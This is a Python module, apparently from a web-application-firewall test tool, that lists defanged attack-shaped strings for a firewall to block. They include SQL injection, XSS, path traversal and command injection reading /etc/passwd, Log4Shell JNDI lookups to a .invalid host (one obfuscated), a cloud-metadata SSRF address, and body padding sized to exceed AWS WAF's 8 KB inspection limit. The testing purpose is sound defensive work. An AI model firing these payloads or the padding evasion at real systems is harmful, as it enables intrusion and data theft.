"""Texts in the shape of attacks, of our own making, for firewalls to block.

None does anything: no query asks for data or changes any, no command does more than print a word, no host exists
(RFC 2606 `.invalid`) but the metadata service's address, which is only named.
"""

from dataclasses import dataclass


@dataclass(frozen=True, slots=True, kw_only=True)
class Payload:
    """A text; `name` is the column of the matrix."""

    name: str
    text: str


PAYLOADS: tuple[Payload, ...] = (
    Payload(name="SQL injection, tautology", text="cutover' OR '1'='1' --"),
    Payload(name="SQL injection, union", text="0 UNION ALL SELECT NULL,'cutover',NULL-- -"),
    Payload(name="SQL injection, stacked", text="1'; SELECT 'cutover' /* probe */; --"),
    Payload(name="XSS, script", text="<script>alert('cutover')</script>"),
    Payload(name="XSS, event handler", text='"><img src=x onerror=alert(/cutover/)>'),
    Payload(name="XSS, javascript address", text='<a href="javascript:alert(document.domain)">cutover</a>'),
    Payload(name="path traversal", text="../../../../../../etc/passwd"),
    Payload(name="path traversal, encoded", text="..%2f..%2f..%2f..%2fwindows%2fwin.ini"),
    Payload(name="command injection, list", text="cutover; /bin/cat /etc/passwd | /usr/bin/head -n 0"),
    Payload(name="command injection, substitution", text="$(/bin/echo cutover) `/usr/bin/id -u`"),
    Payload(name="Log4Shell", text="${jndi:ldap://cutover-probe.invalid/a}"),
    Payload(name="Log4Shell, disguised", text="${${lower:j}n${::-d}i:${lower:l}dap://cutover-probe.invalid/a}"),
    Payload(name="request forgery, metadata service", text="http://169.254.169.254/latest/meta-data/"),
)

SCANNER = "sqlmap/1.8 (cutover probe; nothing is scanned)"
"""A User-Agent that names a scanner."""

PADDINGS = (9, 33)
"""KB before a payload: AWS WAF inspects the first 8 KB of a body behind Amazon API Gateway (facts §1.5); another
product's limit may be higher, so that a larger one is asked as well."""
